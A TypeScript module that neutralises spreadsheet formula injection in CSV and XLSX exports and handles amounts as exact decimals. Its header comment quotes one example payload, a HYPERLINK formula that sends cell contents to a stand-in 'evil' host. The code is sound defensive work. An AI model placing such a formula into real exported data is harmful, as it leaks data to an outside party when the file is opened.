/**
 * Formula injection (OWASP "CSV Injection"): a spreadsheet treats a cell that begins with
 * = + - @ (or a tab / carriage return, which some programs strip before looking) as a formula,
 * so a project titled `=HYPERLINK("http://evil/?"&A1,"Open")` would run when an officer opens the
 * export. Such text gets a leading apostrophe, which spreadsheets show as text and never evaluate.
 *
 * Numbers are not text: an amount column is written as a number cell in XLSX (cell type n, never
 * evaluated), and in CSV as the plain decimal itself. A CSV field such as `-12.5` starts with a
 * trigger character but is read as a number: strict decimal syntax (digits, one point, an optional
 * leading minus) has no room for a function call or a cell reference, so it stays as it is. Anything
 * in an amount column that is not such a decimal is treated as text and neutralised like a title.
 */

/** ASCII triggers, plus their full-width forms, which some spreadsheet programs fold to ASCII. */
const FORMULA_TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A plain decimal (what Postgres numeric and the forms' money strings look like). */
const PLAIN_DECIMAL = /^-?\d+(\.\d+)?$/;

/** Digits a spreadsheet number (IEEE double) keeps exactly; longer amounts stay text so none is rounded. */
const EXACT_DIGITS = 15;

export function neutraliseText(text: string): string {
  return FORMULA_TRIGGER.test(text) ? `'${text}` : text;
}

export function isPlainDecimal(text: string): boolean {
  return PLAIN_DECIMAL.test(text);
}

/** XLSX: a number cell for a plain decimal that a double holds exactly, otherwise neutralised text. */
export function xlsxNumber(value: string | number): number | string {
  if (typeof value === 'number') return Number.isFinite(value) ? value : neutraliseText(String(value));
  const text = value.trim();
  const digits = text
    .replace(/^-/, '')
    .replace('.', '')
    .replace(/^0+(?=\d)/, '').length;
  return isPlainDecimal(text) && digits <= EXACT_DIGITS ? Number(text) : neutraliseText(text);
}

/** CSV: the decimal exactly as stored (no float in between), or neutralised text when it is not one. */
export function csvNumber(value: string | number): string {
  const text = String(value).trim();
  return isPlainDecimal(text) ? text : neutraliseText(text);
}
